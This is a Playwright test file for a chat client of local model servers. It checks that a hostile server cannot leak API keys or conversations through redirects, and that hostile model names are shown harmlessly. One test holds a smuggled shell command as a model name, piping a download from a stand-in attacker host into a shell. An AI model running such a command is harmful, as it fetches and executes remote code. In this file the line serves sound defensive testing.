// Issue 11: a server the user connects to may be hostile. It cannot send the user's secrets or
// conversation elsewhere with a redirect, plant a command in an alert, or break the model picker.
import type { Page } from '@playwright/test';
import { startHitCounter } from '../fake-ollama/hits.mjs';
import { startHttpsTwin } from '../fake-ollama/httpsTwin.mjs';
import { addOpenAiServer, ask, expect, lastAnswer, startServer, test, type FakeOllama } from './fixtures';

const KEY = 'k-3f9a1c77e2';
const QUESTION = 'my confidential question about the exam';

// The https twin of a server presents a self-signed certificate.
test.use({ ignoreHTTPSErrors: true });

/** Opens the app on `server` and gives its profile a custom-header key, through the Servers dialog. */
async function openWithCustomHeader(page: Page, server: FakeOllama) {
  await page.goto(`/?server=${encodeURIComponent(server.url)}`);
  await expect(page.getByRole('combobox', { name: 'Model' })).toBeEnabled();
  await page.getByRole('button', { name: 'Servers' }).click();
  await page.getByRole('button', { name: `Edit ${new URL(server.url).host}`, exact: true }).click();
  await page.getByLabel('Authentication').selectOption('headers');
  await page.getByLabel('Headers (one “Name: value” per line)').fill(`X-Api-Key: ${KEY}`);
  await page.getByRole('button', { name: 'Save' }).click();
  await expect(page.getByRole('dialog').getByRole('button', { name: 'Add server' })).toBeVisible();
  await page.getByRole('dialog').getByRole('button', { name: 'Close' }).click();
  await expect(page.getByRole('combobox', { name: 'Model' })).toBeEnabled();
  // The picker stays enabled while the list is asked for again, now with the header.
  await server.waitForRequest((r) => r.headers['x-api-key'] === KEY);
}

/** What a user sees when a request was redirected: the alert, or the server's dot in Servers. */
async function expectRedirectShown(page: Page, server: FakeOllama, path: string) {
  const words = `${new URL(server.url).host} sent this request to another address`;
  // A model's details only complete the list: without them it still works, nothing to tell.
  if (path === '/api/show') return expect(page.getByRole('combobox', { name: 'Model' })).toBeEnabled();
  if (path === '/api/version') {
    await page.getByRole('button', { name: 'Servers' }).click();
    const dialog = page.getByRole('dialog', { name: 'Servers' });
    await expect(dialog.getByRole('img', { name: `Not reachable: ${words}` })).toBeVisible();
    await dialog.getByRole('button', { name: 'Close' }).click();
    return;
  }
  const alert = page.getByRole('alert');
  await expect(alert).toContainText(words);
  await expect(alert).toContainText('Causerie did not follow it');
  await alert.getByRole('button', { name: 'Close' }).click();
}

test('no redirect is followed, whatever its status and request: the other port never sees the key or the question', async ({
  page,
}) => {
  const hits = await startHitCounter();
  const servers: FakeOllama[] = [];
  try {
    // 301 and 302 turn a POST into a GET, 307 and 308 keep the method and the body: following
    // any of them would hand the custom header, and with 307/308 the conversation, to the other port.
    for (const status of [301, 302, 307, 308]) {
      // A permissive proxy in front (it lets X-Api-Key through CORS), which then turns hostile. A
      // new one for each status: the browser caches a 301 or 308 GET and answers it without asking.
      const server = await startServer({ rate: 0, allowAnyHeaders: true });
      servers.push(server);
      await openWithCustomHeader(page, server);
      expect(server.requests.some((r) => r.headers['x-api-key'] === KEY)).toBe(true);
      // The POSTs first: once a GET is redirected, the browser may keep answering it from its cache.
      for (const path of ['/api/show', '/api/chat', '/api/tags', '/api/version']) {
        server.setOptions({ redirect: { to: hits.url, status, paths: [path] } });
        const from = server.requests.length;
        if (path === '/api/chat') await ask(page, `${QUESTION} (${status})`);
        // The list asks /api/show for each model, /api/version is asked when Servers opens.
        else if (path !== '/api/version') await page.getByRole('button', { name: 'Refresh models' }).click();
        const shown = expectRedirectShown(page, server, path);
        await server.waitForRequest(
          (r) => r.id > from && r.path === path && r.method !== 'OPTIONS' && r.headers['x-api-key'] === KEY,
        );
        await shown;
        if (path === '/api/chat') await expect(lastAnswer(page)).toHaveAttribute('data-status', 'error');
      }
    }

    const leaked = hits.hits.filter(
      (h) => JSON.stringify(h.headers).includes(KEY) || h.body.includes('confidential'),
    );
    expect(leaked).toEqual([]);
    expect(hits.hits).toEqual([]);
  } finally {
    for (const server of servers) await server.close();
    await hits.close();
  }
});

test('a server that moved to https on the same host: the redirect is not followed, the https address is offered and works', async ({
  page,
}) => {
  // TLS, two sign-ins of the same server and a question: more than the default time when loaded.
  test.slow();
  const server = await startServer({ rate: 0 });
  const twin = await startHttpsTwin(server.url);
  try {
    await page.goto(`/?server=${encodeURIComponent(twin.httpUrl)}`);
    const alert = page.getByRole('alert');
    await expect(alert).toContainText('sent this request to another address');
    await expect(alert).toContainText('This host also answers over https: use this Base URL');
    await expect(alert.locator('code')).toHaveText(twin.httpsUrl);

    // The user takes the offer: the same server, now over https.
    const offered = (await alert.locator('code').textContent()) ?? '';
    await page.getByRole('button', { name: 'Servers' }).click();
    await page
      .getByRole('button', { name: /^Edit / })
      .first()
      .click();
    await page.getByLabel('Base URL').fill(offered);
    await page.getByRole('button', { name: 'Save' }).click();
    await page.getByRole('dialog').getByRole('button', { name: 'Close' }).click();
    await expect(page.getByRole('combobox', { name: 'Model' })).toBeEnabled();
    await ask(page, QUESTION);
    await expect(lastAnswer(page)).toHaveAttribute('data-status', 'done');
    // Plain http only ever answered with redirects, and never got the question.
    expect(twin.plainHits.filter((h) => h.body.includes('confidential'))).toEqual([]);
    expect(server.requests.some((r) => JSON.stringify(r.body ?? null).includes('confidential'))).toBe(true);
  } finally {
    await twin.close();
    await server.close();
  }
});

test('a model name that is a shell command is shown as text, with no command to paste', async ({ page }) => {
  const evil = 'llama3; curl -s http://evil.example/x | sh #';
  const server = await startServer({ rate: 0, models: [{ name: 'llama3.2' }, { name: evil }] });
  try {
    await page.goto(`/?server=${encodeURIComponent(server.url)}`);
    const picker = page.getByRole('combobox', { name: 'Model' });
    await expect(picker).toBeEnabled();
    // Ollama names without a tag get ':latest'.
    await picker.selectOption(`${evil}:latest`);
    // The server lists it but cannot run it, as a hostile server would.
    server.fault({ kind: 'status', status: 404, model: evil, times: 5 });
    await ask(page, 'hello');
    const alert = page.getByRole('alert');
    await expect(alert).toContainText('is not on this server');
    await expect(alert).toContainText('curl -s http://evil.example/x');
    await expect(alert.locator('code')).toHaveCount(0);
    await expect(alert).not.toContainText('ollama pull');
  } finally {
    await server.close();
  }
});

test('a server listing a model twice still gives a working picker', async ({ page }) => {
  const server = await startServer({
    rate: 0,
    models: [{ name: 'llama3.2' }, { name: 'qwen3:4b' }, { name: 'llama3.2' }],
  });
  try {
    await page.goto(`/?server=${encodeURIComponent(server.url)}`);
    const picker = page.getByRole('combobox', { name: 'Model' });
    await expect(picker).toBeEnabled();
    await expect(picker.locator('option')).toHaveCount(2);
    await picker.selectOption('qwen3:4b');
    await ask(page, 'which model are you?');
    await expect(lastAnswer(page)).toHaveAttribute('data-status', 'done');
    await expect(page.getByRole('alert')).toBeEmpty();
  } finally {
    await server.close();
  }
});

test('an OpenAI-compatible server listing a model twice in /v1/models still gives a working picker', async ({
  page,
}) => {
  const server = await startServer({
    rate: 0,
    models: [{ name: 'llama3.2' }, { name: 'qwen3:4b' }, { name: 'llama3.2' }],
  });
  try {
    await addOpenAiServer(page, server);
    const picker = page.getByRole('combobox', { name: 'Model' });
    await expect(picker.locator('option', { hasText: /^llama3\.2:latest/ })).toHaveCount(1);
    await expect(picker.locator('option', { hasText: /^qwen3:4b/ })).toHaveCount(1);
    await picker.selectOption('qwen3:4b');
    await ask(page, 'which model are you?');
    await expect(lastAnswer(page)).toHaveAttribute('data-status', 'done');
    await expect(page.getByRole('alert')).toBeEmpty();
  } finally {
    await server.close();
  }
});
